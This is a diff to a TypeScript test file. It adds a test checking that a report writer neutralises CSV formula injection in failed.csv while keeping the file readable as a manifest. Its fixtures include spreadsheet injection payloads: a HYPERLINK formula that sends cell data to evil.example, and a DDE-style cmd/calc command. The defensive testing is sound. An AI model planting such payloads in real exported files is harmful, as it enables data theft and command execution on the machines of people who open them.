@@ -1,4 +1,5 @@
 import { GetObjectCommand } from '@aws-sdk/client-s3';
+import { parse } from 'csv-parse/sync';
 import { Readable } from 'node:stream';
 import { gunzipSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
@@ -51,6 +52,33 @@ describe('ReportStreams', () => {
     expect(entries).toEqual(records.filter((r) => r.outcome !== 'deleted').map((r) => r.imageId));
     const targets = new Set(items.filter((item) => item.kind === 'target').map((item) => JSON.stringify(item.kind === 'target' ? item.target : {})));
     expect([...targets]).toEqual([JSON.stringify({ projectId: target.projectId, dataAnnotationId: '282' })]);
+  });
+
+  it('writes no cell a spreadsheet would run as a formula, and failed.csv still reads back as a manifest of exactly the entries written', async () => {
+    // Prepare: entries and messages as a hostile manifest or service could make them
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2', '\t=1', '\r=1', "'=already quoted", "''@twice", 'plain-not-an-id'];
+    const records: OutcomeRecord[] = hostile.map((entry, i) => ({ imageId: entry, position: i + 1, outcome: 'invalid', errorCode: 'INVALID_IMAGE_ID', errorMessage: `expected 32 hexadecimal characters, got ${entry.length}` }));
+    records.push({ imageId: imageIds('formula', 1)[0]!, position: 99, outcome: 'failed', errorCode: '=ModelArts.0000', errorMessage: '-1 is not allowed: =HYPERLINK("x")' });
+    const location = { bucket: stack.env.REPORT_BUCKET!, failedKey: 'formulas/failed.csv', resultsKey: 'formulas/results.jsonl.gz' };
+
+    // Act
+    const streams = new ReportStreams(stack.s3, location, target);
+    await streams.write(records);
+    await streams.close();
+
+    // Assess: no cell of the file starts like a formula (OWASP: =, +, -, @, tab, CR)
+    const failedCsv = await body(location.failedKey);
+    const cells: string[] = (parse(failedCsv) as unknown[][]).flat() as string[];
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"open")');
+    expect(cells).toContain("'-1 is not allowed: =HYPERLINK(\"x\")");
+    // ...and a re-run of failed.csv reads exactly the entries that were written
+    const items = [];
+    for await (const item of readManifestEntries(Readable.from([failedCsv]), manifestFormatOf(location.failedKey))) items.push(item);
+    expect(items.filter((item) => item.kind === 'entry').map((item) => (item.kind === 'entry' ? item.value : ''))).toEqual(records.map((record) => record.imageId));
+    // results.jsonl.gz is JSON, which no spreadsheet runs: written as it is
+    const results = gunzipSync(await body(location.resultsKey)).toString('utf8').trimEnd().split('\n').map((line) => JSON.parse(line) as ResultLine);
+    expect(results.map((line) => line.image_id)).toEqual(records.map((record) => record.imageId));
   });
 
   it('writes a header-only failed.csv and an empty results file for a job with nothing to report', async () => {
